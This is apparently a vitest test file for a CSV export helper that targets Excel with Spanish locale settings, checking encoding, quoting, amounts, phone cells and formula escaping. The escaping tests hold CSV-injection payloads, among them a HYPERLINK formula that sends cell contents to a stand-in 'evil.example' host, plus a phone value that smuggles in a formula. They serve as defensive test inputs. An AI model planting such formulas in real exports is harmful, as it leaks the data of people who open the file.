import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, buildCsv, csvAmount, csvPhone, escapeFormula } from './csv.ts';

describe('buildCsv (Excel with Spanish regional settings)', () => {
  const csv = buildCsv(
    ['Nombre', 'Alergias', 'Pagado'],
    [
      ['Миша Смирнов', 'Орехи; "всегда" с собой', csvAmount(250)],
      ['Lucía Fernández', 'línea 1\nlínea 2', null],
      ['=HYPERLINK("http://evil")', csvPhone('+34 612 345 678'), csvAmount(100.5)],
    ],
  );

  it('starts with the UTF-8 byte order mark and separates cells with ;', () => {
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Nombre;Alergias;Pagado');
  });

  it('keeps Cyrillic and Spanish letters intact in UTF-8', () => {
    const bytes = new TextEncoder().encode(csv);
    const text = new TextDecoder('utf-8').decode(bytes);
    expect(text).toContain('Миша Смирнов');
    expect(text).toContain('Lucía Fernández');
    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('quotes cells with the separator, quotes or line breaks, doubling the quotes', () => {
    expect(csv).toContain('"Орехи; ""всегда"" с собой"');
    expect(csv).toContain('"línea 1\nlínea 2"');
    // Read back by a CSV parser with the same rules: every cell comes back as it was.
    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n' }).data;
    expect(parsed[1]).toEqual(['Миша Смирнов', 'Орехи; "всегда" с собой', '250,00']);
    expect(parsed[2]).toEqual(['Lucía Fernández', 'línea 1\nlínea 2', '']);
  });

  it('never lets a cell run as a formula', () => {
    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n' }).data;
    expect(parsed[3]?.[0]).toBe(`'=HYPERLINK("http://evil")`);
    expect(parsed[3]?.[1]).toBe(`="+34 612 345 678"`);
  });

  it('escapes a formula behind line breaks, spaces or a tab, and a cell starting with a tab or CR', () => {
    const attack = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    for (const before of ['\r\n', '\n', '\r', ' ', '\t', ' \r\n\t', '\u00A0'])
      expect(escapeFormula(`${before}${attack}`), JSON.stringify(before)).toBe(`'${before}${attack}`);
    expect(escapeFormula(`${attack}\r\n`)).toBe(`'${attack}\r\n`);
    for (const start of ['+1+1', '-1+1', '@SUM(A1)', '\tplain', '\rplain', '\uFF1DSUM(A1)'])
      expect(escapeFormula(start), JSON.stringify(start)).toBe(`'${start}`);
    for (const safe of ['Lucía', 'a = b', '12,50', 'line 1\nline 2', ''])
      expect(escapeFormula(safe)).toBe(safe);
    // Read back from the file, the cell holds the apostrophe before the line break.
    const file = buildCsv(['Name'], [[`\r\n${attack}`], [`${attack}\n`]]);
    const cells = Papa.parse<string[]>(file.slice(1), { delimiter: ';', newline: '\r\n' }).data;
    expect(cells[1]?.[0]).toBe(`'\r\n${attack}`);
    expect(cells[2]?.[0]).toBe(`'${attack}\n`);
  });

  it('writes phone numbers as text a spreadsheet shows as typed, and escapes anything else in them', () => {
    const cells = (phone: string | null) =>
      Papa.parse<string[]>(buildCsv(['Phone'], [[csvPhone(phone)]]).slice(1), {
        delimiter: ';',
        newline: '\r\n',
      }).data[1]?.[0];
    expect(cells('+34600000000')).toBe('="+34600000000"');
    expect(cells('600 000 000')).toBe('="600 000 000"');
    expect(cells('+7 (912) 345-67-89')).toBe('="+7 (912) 345-67-89"');
    expect(cells('+34 600" & HYPERLINK("x')).toBe(`'+34 600" & HYPERLINK("x`);
    expect(cells('=1+1')).toBe(`'=1+1`);
    expect(cells(null)).toBe('');
  });

  it('writes amounts with a decimal comma and ends every line with CRLF', () => {
    expect(csvAmount(100.5)).toBe('100,50');
    expect(csvAmount(null)).toBe('');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toHaveLength(5);
  });
});
